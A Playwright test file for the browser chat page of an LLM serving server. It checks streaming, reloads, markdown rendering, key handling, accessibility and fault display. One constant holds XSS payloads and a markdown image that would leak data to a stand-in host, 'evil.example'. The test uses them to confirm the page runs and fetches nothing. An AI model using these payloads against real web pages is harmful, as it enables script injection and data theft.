"""The page at / in a real browser, against a real server whose graphs a test can break."""

from __future__ import annotations

import json
import os
import shutil
import signal
from collections.abc import Iterator
from typing import Any

import pytest
from http_server import Server, Start, until
from warm import FAULTY_ENGINE

sync_api = pytest.importorskip("playwright.sync_api", reason="the extra test is not installed")

BROWSERS = ("chromium", "chromium-browser", "google-chrome", "chrome")
BROWSER = next((found for each in BROWSERS if (found := shutil.which(each))), None)
pytestmark = [
    pytest.mark.long,
    pytest.mark.skipif(BROWSER is None, reason=f"no browser: {', '.join(BROWSERS)}"),
]

KEY = "page-key"
OPTIONS = (
    "--graph-mode", "full", "--graph-verify", "canary:1", "--max-num-seqs", "4",
    "--max-num-batched-tokens", "32", "--graph-buckets", "decode=4;mixed=32",
    "--num-blocks", "200", "--api-key", KEY, "--api-server-count", "2",
)  # fmt: skip
SERIOUS = ("serious", "critical")
WAIT_MS = 30_000


@pytest.fixture(scope="module")
def served(start: Start, device: str) -> Server:
    return start(*OPTIONS, "--device", device, engine=(FAULTY_ENGINE, "graph_on_signal"))


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_api.sync_playwright() as playwright:
        sync_api.expect.set_options(timeout=WAIT_MS)
        found = playwright.chromium.launch(executable_path=BROWSER, args=["--no-sandbox"])
        yield found
        found.close()


@pytest.fixture
def page(browser: Any, served: Server) -> Iterator[Any]:
    """The page with its key; a script error or a broken rule of its policy fails the test."""
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    context.set_default_timeout(WAIT_MS)
    context.add_init_script(f"sessionStorage.setItem('reprise.key', '{KEY}')")
    found = context.new_page()
    wrong: list[str] = []
    found.on("pageerror", lambda error: wrong.append(str(error)))
    found.on("console", lambda line: line.type == "error" and wrong.append(line.text))
    found.goto(served.url)
    yield found
    context.close()
    assert not [each for each in wrong if "Failed to load resource" not in each]


def answer_with(page: Any, *deltas: dict[str, Any], finish: dict[str, Any] | None = None) -> None:
    """The next answers are these, whatever the model would say."""
    chunks = [{"choices": [{"index": 0, "delta": each, "finish_reason": None}]} for each in deltas]
    last = {"index": 0, "delta": {}, "finish_reason": "stop", **(finish or {})}
    chunks.append({"choices": [last]})
    body = "".join(f"data: {json.dumps(each)}\n\n" for each in chunks) + "data: [DONE]\n\n"
    page.route(
        "**/v1/chat/completions",
        lambda route: route.fulfill(status=200, content_type="text/event-stream", body=body),
    )


def say(page: Any, text: str) -> None:
    page.get_by_label("Message").fill(text)
    page.get_by_label("Message").press("Enter")


def expect(locator: Any) -> Any:
    return sync_api.expect(locator)


def test_a_chat_streams_and_stops(page: Any, served: Server) -> None:
    asked: list[dict[str, Any]] = []
    page.on("request", lambda each: each.post_data and asked.append(each.post_data_json))
    page.get_by_role("button", name="Settings").click()
    for name, value in (("System prompt", "Be kind."), ("Temperature", "0"), ("Seed", "7")):
        page.get_by_label(name).fill(value)
    page.keyboard.press("Escape")
    say(page, "What is 12 + 30?")
    answers = page.get_by_role("article", name="Answer")
    expect(answers.last).to_contain_text("12 + 30 = 42")
    expect(answers.last).to_contain_text("tokens/s")
    assert asked[0]["messages"][0] == {"role": "system", "content": "Be kind."}
    assert (asked[0]["temperature"], asked[0]["seed"]) == (0, 7)
    say(page, "Tell me a story about a fox.")
    expect(answers.last.locator(".text").last).to_contain_text("a")
    assert not page.get_by_role("button", name="Send").is_visible()
    page.keyboard.press("Escape")
    expect(answers.last).to_contain_text("Stopped")
    assert asked[1]["messages"][1:3] == [
        {"role": "user", "content": "What is 12 + 30?"},
        {"role": "assistant", "content": "12 + 30 = 42"},
    ]
    headers = {"Authorization": f"Bearer {KEY}"}
    with served.client(headers=headers) as client:
        until(lambda: client.get("/load").json() == {"server_load": 0})
        metrics = client.get("/metrics").text
    (aborted,) = (each for each in metrics.splitlines() if 'reason="abort"' in each)
    assert aborted.endswith(" 1.0")
    page.get_by_role("button", name="Clear").click()
    expect(answers).to_have_count(0)


NEVER_ENDS = """() => {
  const chunk = 'data: {"choices": [{"delta": {"content": "Once"}}]}\\n\\n';
  const start = (stream) => stream.enqueue(new TextEncoder().encode(chunk));
  window.fetch = async () => new Response(new ReadableStream({ start }));
}"""


def test_a_chat_is_there_after_a_reload(page: Any) -> None:
    asked: list[dict[str, Any]] = []
    page.on("request", lambda each: each.post_data and asked.append(each.post_data_json))
    answer_with(page, {"reasoning": "Let me *think*."}, {"content": "It is **42**."})
    say(page, "What is 12 + 30?")
    answers = page.get_by_role("article", name="Answer")
    expect(answers.last).to_contain_text("first after")
    page.reload()
    expect(answers).to_have_count(1)
    expect(answers.last.locator("strong")).to_have_text("42")
    expect(answers.last.locator("summary")).to_have_text("Thought")
    expect(answers.last).to_contain_text("first after")
    expect(page.get_by_role("article", name="You")).to_contain_text("12 + 30")
    say(page, "And twice that?")
    expect(answers).to_have_count(2)
    expect(answers.last).to_contain_text("first after")
    assert asked[-1]["messages"] == [
        {"role": "user", "content": "What is 12 + 30?"},
        {"role": "assistant", "content": "It is **42**."},
        {"role": "user", "content": "And twice that?"},
    ]
    page.reload()
    answers.first.get_by_role("button", name="Try again").click()
    expect(answers).to_have_count(1)
    assert len(asked[-1]["messages"]) == 1
    page.evaluate(NEVER_ENDS)
    say(page, "Tell me a story about a fox.")
    expect(answers.last.locator(".text").last).to_contain_text("Once")
    page.reload()
    expect(answers.last).to_contain_text("the page was left")
    page.get_by_role("button", name="Clear").click()
    page.reload()
    expect(page.get_by_role("heading", name="What shall it be?")).to_be_visible()
    expect(answers).to_have_count(0)


CUT_OFF = """() => [...document.querySelectorAll("header, header *")].filter(
  (each) => each.clientWidth && each.scrollWidth > each.clientWidth
    || each.getBoundingClientRect().right > innerWidth).map((each) => each.outerHTML)"""


def test_what_is_known_of_graphs_is_whole_on_a_phone(page: Any) -> None:
    page.set_viewport_size({"width": 375, "height": 700})
    pill = page.locator("#health")
    expect(pill).to_contain_text("right")
    for text in (None, "12 wrong", "draining"):
        if text is not None:
            page.evaluate(
                "text => document.querySelector('#health .short').textContent = text", text
            )
        assert page.evaluate(CUT_OFF) == []


ATTACKS = """<img src=x onerror="window.hit=1"><script>window.hit=1</script>
[a](javascript:window.hit=1) [b](  JaVaScRiPt:window.hit=1) [c](data:text/html,<script>1</script>)
![d](https://evil.example/leak?q=secret) <javascript:window.hit=1> [e](/v1/models "x" onclick=1)
```html"><img src=x onerror=window.hit=1>
</code></pre><script>window.hit=1</script>
```
| <b>x</b> | y |
| --- | --- |
| <iframe srcdoc="<script>parent.hit=1</script>"> | <svg onload=window.hit=1> |
"""


def test_what_a_model_writes_runs_nothing(page: Any) -> None:
    fetched: list[str] = []
    page.on("request", lambda each: fetched.append(each.url))
    answer_with(page, {"reasoning": ATTACKS}, {"content": ATTACKS})
    say(page, ATTACKS)
    answer = page.get_by_role("article", name="Answer").last
    expect(answer).to_contain_text("first after")
    made = answer.evaluate(
        "e => [...e.querySelectorAll('*')].map(each => [each.tagName, each.getAttribute('href')])"
    )
    assert not {name for name, _ in made} & {"IMG", "SCRIPT", "IFRAME", "SVG", "B"}
    assert {href for _, href in made if href} == {"https://evil.example/leak?q=secret"}
    assert "<img src=x" in answer.inner_text()
    assert not page.evaluate("'hit' in window")
    assert not any("evil.example" in each for each in fetched)


def test_the_policy_stops_markup_even_from_the_page_itself(browser: Any, served: Server) -> None:
    """Were there a hole in the page's own code, this is what stands behind it."""
    page = browser.new_page()
    page.goto(served.url)
    with served.client() as client:
        policy = client.get("/").headers["content-security-policy"]
    assert "unsafe" not in policy
    assert policy.startswith("default-src 'none'; script-src 'self';")
    refused = page.evaluate(
        "() => { try { document.createElement('p').innerHTML = '<b>'; } "
        "catch (error) { return error.name; } }"
    )
    assert refused == "TypeError"
    page.close()


MARKDOWN = (
    "# Head\n\nA *b* **c** `d*` ~~e~~ 2 * 3 snake_case_name <https://a.example/> "
    "see https://b.example/x.\n\n- one\n  - two\n- three\n\n3. x\n4. y\n\n> q\n\n"
    "| l | r |\n| :-- | --: |\n| 1 | 2\\|3 |\n\n---\n```py\nprint('<b>')\n```\nend"
)


def test_markdown_and_thoughts(page: Any) -> None:
    pieces = [{"content": MARKDOWN[at : at + 3]} for at in range(0, len(MARKDOWN), 3)]
    answer_with(page, {"reasoning": "Let me *think*."}, *pieces, finish={"suspect_from": 3})
    say(page, "x")
    answer = page.get_by_role("article", name="Answer").last
    expect(answer).to_contain_text("may be wrong")
    html = answer.locator(".text").last.evaluate("e => e.innerHTML")
    for part in (
        "<h3>Head</h3>", "<em>b</em> <strong>c</strong> <code>d*</code> <s>e</s> 2 * 3 snake_case_",
        'href="https://a.example/"', ">https://b.example/x</a>.</p>",
        "<ul><li>one<ul><li>two</li></ul></li><li>three</li></ul>",
        '<ol start="3"><li>x</li><li>y</li></ol>', "<blockquote><p>q</p></blockquote>",
        '<td class="right">2|3</td>', "<hr>", "<code>print('&lt;b&gt;')</code>", "<p>end</p>",
    ):  # fmt: skip
        assert part in html, (part, html)
    thought = answer.locator("details")
    assert thought.get_attribute("open") is None
    assert "Thought for" in thought.inner_text()
    # However odd a text is, its time grows with its length and not with its square.
    slow = page.evaluate(
        """async () => {
          const { show } = await import("/page/markdown.js");
          const odd = ["*a_", "[", "![a](", "`", "<", "> ", "- ", "\\n", "|-", "**", "`` ` ", "https://"];
          const began = performance.now();
          for (const each of odd) show(document.createElement("div"), each.repeat(20000));
          return performance.now() - began;
        }"""
    )
    assert slow < 15_000


def test_a_key_is_asked_for_and_holds(browser: Any, served: Server) -> None:
    with served.client() as client:
        for path in ("/", "/page/app.js", "/page/base.css"):
            assert client.get(path).status_code == 200
        for path in ("/live", "/graphs", "/v1/models", "/page/../live", "/page/nothing.js"):
            assert client.get(path).status_code == 401
        tag = client.get("/").headers["etag"]
        assert client.get("/", headers={"If-None-Match": tag}).status_code == 304
    context = browser.new_context()
    context.set_default_timeout(WAIT_MS)
    page = context.new_page()
    page.goto(served.url)
    field = page.get_by_label("Key", exact=True)
    for key in ("wrong", KEY):
        field.fill(key)
        field.press("Enter")
        if key == "wrong":
            expect(page.get_by_text("does not take this key")).to_be_visible()
    expect(page.locator("#health .long")).to_contain_text("none wrong")
    assert KEY not in json.dumps(page.evaluate("({...localStorage})"))
    context.close()


SIZES = {"desktop": (1280, 800), "phone": (390, 844)}


def test_nothing_serious_for_axe_and_pictures(page: Any) -> None:
    """``REPRISE_PICTURES`` names a directory for the pictures that docs/ has of both views."""
    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
    pictures = os.environ.get("REPRISE_PICTURES")
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("Max tokens").fill("40" if pictures else "16")
    page.keyboard.press("Escape")
    expect(page.locator("#health .long")).to_contain_text("none wrong")
    for text in ("What is 12 + 30?", "Tell me a story about a fox."):
        say(page, text)
        expect(page.get_by_role("article", name="Answer").last).to_contain_text("first after")
    for theme in ("light", "dark"):
        page.evaluate("theme => document.documentElement.dataset.theme = theme", theme)
        for view in ("chat", "live"):
            page.evaluate("view => location.hash = view", view)
            for size, (width, height) in SIZES.items():
                page.set_viewport_size({"width": width, "height": height})
                wide = page.evaluate("document.documentElement.scrollWidth")
                assert wide <= width, (view, size)
                if pictures:
                    if view == "live" and size == "desktop":
                        page.set_viewport_size({"width": width, "height": 1460})
                    page.wait_for_timeout(2500 if view == "live" else 200)
                    page.screenshot(path=f"{pictures}/page-{view}-{size}-{theme}.png")
            serious(axe, page)
    page.evaluate("location.hash = 'chat'")
    page.get_by_role("button", name="Settings").click()
    serious(axe, page)
    if pictures:
        page.screenshot(path=f"{pictures}/page-settings-phone-dark.png")


def serious(axe: Any, page: Any) -> None:
    found = [each for each in axe.run(page).response["violations"] if each["impact"] in SERIOUS]
    assert not found, json.dumps(found, indent=1)[:4000]


def test_a_graph_that_goes_wrong_turns_the_view_red(page: Any, served: Server) -> None:
    """Last of all: the server's graphs stay refused."""
    page.evaluate("window.same = true; location.hash = 'live'")
    verdict = page.locator("#verdict")
    expect(verdict).to_have_attribute("data-state", "good")
    expect(verdict).to_contain_text("Nothing is wrong")
    (engine,) = served.children()["engine"]
    os.kill(engine, signal.SIGUSR1)
    headers = {"Authorization": f"Bearer {KEY}"}
    with served.client(headers=headers) as client:
        body = {"prompt": "47 + 38 =", "temperature": 0, "max_tokens": 8}
        assert client.post("/v1/completions", json=body).json()["choices"][0]["text"] == " 85"
    expect(verdict).to_have_attribute("data-state", "bad")
    expect(verdict).to_contain_text("quarantined")
    expect(page.locator("#health")).to_contain_text("✗")
    expect(page.locator(".quarantine").first).to_contain_text("differs")
    expect(page.locator(".tone.bad").first).to_contain_text("quarantined")
    assert page.evaluate("window.same")  # it was not loaded anew
    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
    serious(axe, page)
    if pictures := os.environ.get("REPRISE_PICTURES"):
        page.wait_for_timeout(1500)
        page.set_viewport_size({"width": 1280, "height": 900})
        page.screenshot(path=f"{pictures}/page-live-fault.png")
